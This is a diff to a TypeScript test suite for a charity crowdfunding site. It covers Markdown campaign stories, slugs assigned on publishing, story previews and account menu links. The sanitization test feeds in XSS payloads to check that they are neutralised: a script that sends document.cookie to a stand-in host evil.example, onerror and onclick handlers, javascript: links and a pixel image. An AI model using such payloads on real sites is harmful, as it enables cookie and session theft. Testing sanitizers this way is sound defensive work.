@@ -55,7 +55,7 @@ const details = (overrides: Record<string, string> = {}) => ({
   categoryId: '12',
   goalRupees: '250000',
   summary: 'Forty children, one shelf.',
-  storyHtml: '<p>The school has <strong>forty</strong> children.</p>',
+  story: 'The school has **forty** children.',
   videoUrl: '',
   ...overrides,
 });
@@ -66,26 +66,80 @@ async function row(id: number) {
   return c;
 }
 
-describe('the story is sanitized on write', () => {
-  it('drops scripts, handlers, styles, frames and javascript: links; keeps the text and safe markup', async () => {
+describe('the story is Markdown the campaigner writes, shown as sanitized HTML', () => {
+  it('keeps paragraphs, headings, lists, emphasis and links; typed HTML stays text, dangerous links go', async () => {
     const c = await draft();
     const story = [
-      '<p onclick="steal()">Dear donors,</p>',
-      '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
-      '<img src=x onerror="alert(1)">',
-      '<p style="position:fixed">Read <a href="javascript:alert(2)">this</a> and <a href="https://school.example/report">the report</a>.</p>',
-      '<iframe src="https://evil.example"></iframe><svg><script>alert(3)</script></svg>',
-      '<h2>Why now</h2><ul><li>Monsoon</li></ul>',
-    ].join('');
-    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ storyHtml: story }));
+      'Dear donors,',
+      '',
+      'The school has **forty** children and *one* shelf.',
+      '',
+      '## Why now',
+      '',
+      '- Monsoon',
+      '- Exams in March',
+      '',
+      '1. Books',
+      '2. A cupboard',
+      '',
+      'Read [the report](https://school.example/report) and [this](javascript:alert(2)).',
+      '',
+      '<script>fetch("https://evil.example/?c="+document.cookie)</script><img src=x onerror="alert(1)"><p onclick="steal()">hi</p>',
+      '',
+      '![a photo](https://evil.example/pixel.png)',
+    ].join('\n');
+    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ story }));
     expect(res.statusCode).toBe(302);
-    const stored = (await row(c.id)).storyHtml;
-    for (const bad of ['<script', 'onclick', 'onerror', '<img', 'style=', 'javascript:', '<iframe', '<svg', 'alert(', 'evil.example'])
-      expect(stored).not.toContain(bad);
-    expect(stored).toContain('<p>Dear donors,</p>');
-    expect(stored).toContain('<a href="https://school.example/report" rel="nofollow noopener noreferrer" target="_blank">the report</a>');
-    expect(stored).toContain('<h2>Why now</h2><ul><li>Monsoon</li></ul>');
+    const saved = await row(c.id);
+    expect(saved.storyMarkdown).toBe(story);
+    const html = saved.storyHtml;
+    expect(html).toContain('<p>Dear donors,</p>');
+    expect(html).toContain('<p>The school has <strong>forty</strong> children and <em>one</em> shelf.</p>');
+    expect(html).toContain('<h2>Why now</h2>');
+    expect(html).toMatch(/<ul>\s*<li>Monsoon<\/li>\s*<li>Exams in March<\/li>\s*<\/ul>/);
+    expect(html).toMatch(/<ol>\s*<li>Books<\/li>\s*<li>A cupboard<\/li>\s*<\/ol>/);
+    expect(html).toContain('<a href="https://school.example/report" rel="nofollow noopener noreferrer" target="_blank">the report</a>');
+    // What looked like HTML is shown as the characters typed.
+    expect(html).toContain('&lt;script&gt;');
+    for (const bad of ['<script', '<img', '<p onclick', 'javascript:', 'pixel.png']) expect(html).not.toContain(bad);
+    // No element carries a handler or a source: every tag is the allow-list's, bare but a link's href.
+    for (const tag of html.match(/<[a-z][^>]*>/g) ?? [])
+      expect(tag).toMatch(
+        /^<(p|h2|ul|ol|li|strong|em|a href="https:[^"]*" rel="nofollow noopener noreferrer" target="_blank"|a rel="nofollow noopener noreferrer" target="_blank")>$/,
+      );
     expect(await row(c.id)).toMatchObject({ title: 'Books for the hill school', categoryId: 12, goalPaise: 250000_00, summary: 'Forty children, one shelf.' });
+    // The page shows it; the editor gives back the Markdown, not HTML.
+    const { app } = await getTestApp();
+    const editor = await app.inject({ method: 'GET', url: `/my-campaigns/${c.id}`, headers: { authorization: `Bearer ${ownerToken}` } });
+    expect(editor.body).toContain('## Why now');
+    expect(editor.body).toContain('Formatting help');
+  });
+
+  it('a story written before Markdown opens as Markdown and, saved unchanged, shows the same', async () => {
+    const before =
+      '<p>Since August 2024 our team has served <strong>212 families</strong>. Read <a href="https://ngo.example/report" rel="nofollow noopener noreferrer" target="_blank">the report</a>.</p><h3>What a gift does</h3><ul><li>A ration kit: ₹1,200</li><li>Medicines &amp; a check-up</li></ul>';
+    const c = await draft({ storyHtml: before });
+    const { app } = await getTestApp();
+    const editor = await app.inject({ method: 'GET', url: `/my-campaigns/${c.id}`, headers: { authorization: `Bearer ${ownerToken}` } });
+    const typed = editor.body.match(/<textarea[^>]*name="story"[^>]*>([\s\S]*?)<\/textarea>/)?.[1] ?? '';
+    const markdown = typed.replaceAll('&amp;', '&').replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&#x27;', "'").replaceAll('&quot;', '"');
+    expect(markdown).toContain('**212 families**');
+    expect(markdown).toContain('### What a gift does');
+    expect(markdown).toContain('- Medicines & a check-up');
+    expect(markdown).not.toMatch(/<\/?(p|strong|ul|li|h3)>/);
+    expect((await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ story: markdown }))).statusCode).toBe(302);
+    const squash = (h: string) => h.replace(/>\s+</g, '><').trim();
+    expect(squash((await row(c.id)).storyHtml)).toBe(before);
+  });
+
+  it('Preview shows the story as its page would, and saves nothing', async () => {
+    const c = await draft({ storyHtml: '<p>Old story.</p>' });
+    const res = await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ intent: 'preview', story: '## New part\n\nWith **bold** words.' }));
+    expect(res.statusCode).toBe(200);
+    const preview = res.body.match(/<section id="story-preview"[\s\S]*?<\/section>/)?.[0] ?? '';
+    expect(preview).toContain('<h2>New part</h2>');
+    expect(preview).toContain('<strong>bold</strong>');
+    expect(await row(c.id)).toMatchObject({ storyHtml: '<p>Old story.</p>', storyMarkdown: null });
   });
 
   it('bad details answer their messages and change nothing', async () => {
@@ -200,13 +254,54 @@ describe('publishing and updates', () => {
       payload: new URLSearchParams({ intent: 'publish', campaignId: String(c.id) }).toString(),
     });
     expect(res.statusCode).toBe(302);
-    const page = await app.inject({ method: 'GET', url: `/campaigns/${c.slug}` });
+    const page = await app.inject({ method: 'GET', url: `/campaigns/${(await row(c.id)).slug}` });
     expect(page.statusCode).toBe(200);
     expect(page.body).toContain('type="image/webp"');
     expect(page.body).toContain('<strong>forty</strong>');
     const edit = await postForm(`/my-campaigns/${c.id}`, ownerToken, details({ title: 'Changed after publishing' }));
     expect(edit.body).toContain(em.notEditable);
     expect((await row(c.id)).title).toBe(c.title);
+  });
+
+  it('publishing gives the campaign its address from its title, unique, and the console lists it as published at once', async () => {
+    const { app } = await getTestApp();
+    const tag = unique('w').toLowerCase();
+    const title = `Clean Water for Barmer's Schools ${tag}`;
+    const ready = { storyHtml: '<p>Two hand pumps.</p>' };
+    // As an approved application makes them: never live yet.
+    const first = await draft({ title, image: '/media/test.svg', publishedAt: null, ...ready });
+    const second = await draft({ title: `${title}!`, image: '/media/test.svg', publishedAt: null, ...ready });
+    expect(first.slug).not.toContain('clean-water');
+    const move = (id: number, status: string) =>
+      app.inject({
+        method: 'POST',
+        url: '/admin/campaigns',
+        headers: { 'content-type': 'application/x-www-form-urlencoded', authorization: `Bearer ${staffToken}` },
+        payload: new URLSearchParams({ id: String(id), status }).toString(),
+        remoteAddress: nextIp(),
+      });
+    expect((await move(first.id, 'published')).statusCode).toBe(302);
+    expect((await move(second.id, 'published')).statusCode).toBe(302);
+    const expected = `clean-water-for-barmer-s-schools-${tag.replace(/[^a-z0-9]+/g, '-')}`;
+    expect((await row(first.id)).slug).toBe(expected);
+    expect((await row(second.id)).slug).toBe(`${expected}-2`);
+    expect((await app.inject({ method: 'GET', url: `/campaigns/${expected}-2` })).statusCode).toBe(200);
+    const list = await app.inject({
+      method: 'GET',
+      url: `/admin/campaigns?q=${encodeURIComponent(tag)}`,
+      headers: { authorization: `Bearer ${staffToken}` },
+    });
+    const rows = list.body.match(/<tr[\s\S]*?<\/tr>/g)?.filter((r) => r.includes(tag)) ?? [];
+    expect(rows).toHaveLength(2);
+    for (const r of rows) {
+      expect(r).toContain('data-status="published"');
+      expect(r).toMatch(new RegExp(`href="/campaigns/${expected}(-2)?"`));
+    }
+    // Taken offline and back, it keeps its address (donors' links still work).
+    expect((await move(first.id, 'draft')).statusCode).toBe(302);
+    await (await getDb()).update(s.campaigns).set({ title: 'Renamed while offline' }).where(eq(s.campaigns.id, first.id));
+    expect((await move(first.id, 'published')).statusCode).toBe(302);
+    expect((await row(first.id)).slug).toBe(expected);
   });
 
   it('an update shows on the page and is emailed only to paid donors who asked for updates', async () => {
@@ -269,8 +364,8 @@ describe('photos and items', () => {
     // A removed photo is gone, not merely unlisted: its files no longer answer.
     for (const url of [gallery[0]?.jpeg ?? '', gallery[0]?.webp ?? '']) expect((await app.inject({ method: 'GET', url })).statusCode).toBe(404);
     expect((await app.inject({ method: 'GET', url: gallery[1]?.jpeg ?? '' })).statusCode).toBe(200);
-    await getTestApp().then(({ services }) => services.campaigner.publish(c.id));
-    const page = await app.inject({ method: 'GET', url: `/campaigns/${c.slug}` });
+    const { slug } = await getTestApp().then(({ services }) => services.campaigner.publish(c.id));
+    const page = await app.inject({ method: 'GET', url: `/campaigns/${slug}` });
     expect(page.body).toContain(`srcSet="${gallery[1]?.webp}"`);
     expect(page.body).not.toContain(gallery[0]?.jpeg ?? 'never');
   });
@@ -301,9 +396,39 @@ describe('photos and items', () => {
       ['School kit', 750_00, 40],
       ['Winter jacket', 1200_00, 15],
     ]);
-    await services.campaigner.publish(c.id);
-    const page = await app.inject({ method: 'GET', url: `/campaigns/${c.slug}` });
+    const { slug } = await services.campaigner.publish(c.id);
+    const page = await app.inject({ method: 'GET', url: `/campaigns/${slug}` });
     expect(page.body).toContain('School kit');
     expect(page.body).toContain('₹750');
+  });
+});
+
+describe('the way back to My campaigns', () => {
+  async function page(url: string, token: string) {
+    const { app } = await getTestApp();
+    return app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` }, remoteAddress: nextIp() });
+  }
+  /** The links inside each account menu (the wide screens' Welcome menu and the phone menu's top). */
+  const accountMenus = (html: string) => [...html.matchAll(/<nav aria-label="Your account"[^>]*>([\s\S]*?)<\/nav>/g)].map((m) => m[1] ?? '');
+
+  it('the header menu and the profile lead a signed-in campaigner to /my-campaigns', async () => {
+    await draft({ title: 'Water for the village' });
+    const res = await page('/profile', ownerToken);
+    expect(res.statusCode).toBe(200);
+    const menus = accountMenus(res.body);
+    expect(menus.length).toBe(2);
+    for (const menu of menus) expect(menu).toMatch(/<a[^>]*href="\/my-campaigns"[^>]*>My Campaigns<\/a>/);
+    const section = res.body.match(/<section aria-labelledby="my-campaigns"[\s\S]*?<\/section>/)?.[0] ?? '';
+    expect(section).toContain('My campaigns');
+    expect(section).toMatch(/href="\/my-campaigns"/);
+    const list = await page('/my-campaigns', ownerToken);
+    expect(list.body).toContain('Water for the village');
+  });
+
+  it('a donor without campaigns sees no campaigns section on the profile', async () => {
+    const donor = await loginAs(await registerUser());
+    const res = await page('/profile', donor);
+    expect(res.statusCode).toBe(200);
+    expect(res.body).not.toContain('aria-labelledby="my-campaigns"');
   });
 });
